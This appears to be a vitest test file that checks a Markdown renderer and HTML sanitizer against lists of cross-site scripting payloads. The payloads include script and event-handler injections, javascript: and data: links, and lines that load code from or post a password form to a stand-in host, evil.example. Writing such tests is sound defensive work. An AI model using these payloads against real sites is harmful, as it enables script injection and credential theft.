import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5';
import { describe, expect, test } from 'vitest';
import { renderMarkdown } from './render';
import { sanitize } from './sanitize';

/**
 * The attributes allowed on each element, repeated here so that a mistake in the allowlist fails
 * the test.
 */
const ALLOWED: Record<string, RegExp> = {
  a: /^(?:href|title|rel|id|role)$/,
  li: /^(?:id|dir)$/,
  ol: /^(?:start|dir)$/,
  th: /^(?:scope|align|dir)$/,
  td: /^(?:align|dir)$/,
  code: /^class$/,
  ...Object.fromEntries(
    ['p', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'ul', 'table', 'pre'].map((t) => [t, /^dir$/]),
  ),
  ...Object.fromEntries(
    ['thead', 'tbody', 'tr', 'hr', 'br', 'em', 'strong', 'del', 'sup'].map((t) => [t, /^$/]),
  ),
};

/** Returns everything in the HTML, parsed as browsers do, that must not be in a post. */
function intruders(html: string): string[] {
  const found: string[] = [];
  const nodes: DefaultTreeAdapterTypes.ChildNode[] = [...parseFragment(html).childNodes];
  for (let node = nodes.pop(); node; node = nodes.pop()) {
    if (node.nodeName === '#text') continue;
    if (!('tagName' in node)) {
      found.push(node.nodeName);
      continue;
    }
    const allowed = ALLOWED[node.tagName];
    if (!allowed) found.push(`<${node.tagName}>`);
    for (const { name, value } of node.attrs) {
      if (!allowed?.test(name)) found.push(`${node.tagName} ${name}`);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:|#fn(?:ref)?-[\d-]+$)/i.test(value)) {
        found.push(`href ${value}`);
      }
      if (name === 'id' && !/^fn(?:ref)?-[\d-]+$/.test(value)) found.push(`${node.tagName} id`);
      if (name === 'role' && !/^doc-(?:noteref|backlink)$/.test(value)) found.push(`role ${value}`);
      if (name === 'class' && !/^language-[a-z0-9-]+$/.test(value)) found.push(`class ${value}`);
    }
    nodes.push(...node.childNodes);
  }
  return found;
}

const RAW_HTML = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="https://example.org" target="_blank" onclick="alert(1)" id="p-1" class="x">x</a>',
  '<a name="body">x</a><p id="p-1">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '<pre><img src=x onerror=alert(1)></pre>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<div\u0000 onmouseover=alert(1)>x</div>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '"><script>alert(1)</script>',
  '<b <script>alert(1)</script>0',
];

const MARKDOWN = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](&#x6A;avascript&#58;alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](javascript\\:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://example.org/1)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](\\\\\\\\evil.example)',
  '<javascript:alert(1)>',
  '<javascript&colon;alert(1)>',
  '[x]\n\n[x]: javascript:alert(1)',
  '[x][y]\n\n[y]: <javascript:alert(1)> "title"',
  '[x][__proto__]\n\n[__proto__]: javascript:alert(1)',
  '[x][constructor]',
  '[x](https://example.org "\\" onmouseover=alert(1) \\"")',
  '[x](https://example.org "&quot; onmouseover=alert(1) &quot;")',
  '[x](https://example.org/"onmouseover="alert(1))',
  "[x](https://example.org/'onmouseover='alert(1))",
  '[<img src=x onerror=alert(1)>](https://example.org)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://example.org/x.png)',
  '![&quot; onerror=&quot;alert(1)](https://example.org/x.png)',
  '![x](https://example.org/x.png" onerror="alert(1))',
  '![<script>alert(1)</script>](https://example.org/x.png)',
  '![&lt;script&gt;alert(1)&lt;/script&gt;](https://example.org/x.png)',
  '![x][y]\n\n[y]: javascript:alert(1) "x"',
  '![`<img src=x onerror=alert(1)>`](https://example.org/x.png)',
  '```"><script>alert(1)</script>\nx\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```x onload=alert(1) class=y\nx\n```',
  '`<script>alert(1)</script>`',
  '    <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|',
  '# <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- [x] <script>alert(1)</script>',
  '*<script>*alert(1)*</script>*',
  'https://example.org/<script>alert(1)</script>',
  'https://example.org/"onmouseover="alert(1)',
  '\\<script\\>alert(1)\\</script\\>',
];

const FOOTNOTES = [
  'a[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: b',
  'a[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: <script>alert(1)</script>',
  'a[^constructor] b[^__proto__]\n\n[^__proto__]: [x](javascript:alert(1))',
];

describe('hostile texts leave nothing but the allowed elements and attributes', () => {
  test.each([...RAW_HTML, ...MARKDOWN])('%j', (source) => {
    // The text around the attack shows that the rest of a post is preserved.
    const rendered = renderMarkdown(`before\n\n${source}\n\nafter`);
    if (!rendered.ok) throw new Error(rendered.reason);

    expect(intruders(rendered.html)).toEqual([]);
    expect(rendered.html).toMatch(/^<p dir="auto">before<\/p>/);
    expect(rendered.html).toMatch(/<p dir="auto">[^<]*after<\/p>$/);
  });

  test.each(FOOTNOTES)('%j', (source) => {
    const rendered = renderMarkdown(source);
    if (!rendered.ok) throw new Error(rendered.reason);

    expect(intruders(rendered.html)).toEqual([]);
    expect(rendered.html).toContain('href="#fn-1"');
  });

  test('the check itself finds intruders', () => {
    expect(
      intruders(
        '<p id="x" onclick="y">a<script>b</script><a href="javascript:c">d</a><!-- e --></p>',
      ),
    ).toEqual(
      expect.arrayContaining(['p id', 'p onclick', '<script>', 'href javascript:c', '#comment']),
    );
  });
});

describe('the allowlist alone, in case the renderer lets markup through', () => {
  test.each(RAW_HTML)('%j', (source) => {
    expect(intruders(sanitize(source))).toEqual([]);
  });

  test('keeps the text of removed elements', () => {
    expect(sanitize('<section id="a"><p class="b">text</p></section>')).toBe('<p>text</p>');
    expect(sanitize('<a href="javascript:x" title="t">text</a>')).toBe('text');
  });

  test('sets rel on every link and drops any target', () => {
    expect(sanitize('<a href="https://example.org" rel="opener" target="_top">x</a>')).toBe(
      '<a href="https://example.org" rel="nofollow ugc noopener">x</a>',
    );
  });
});
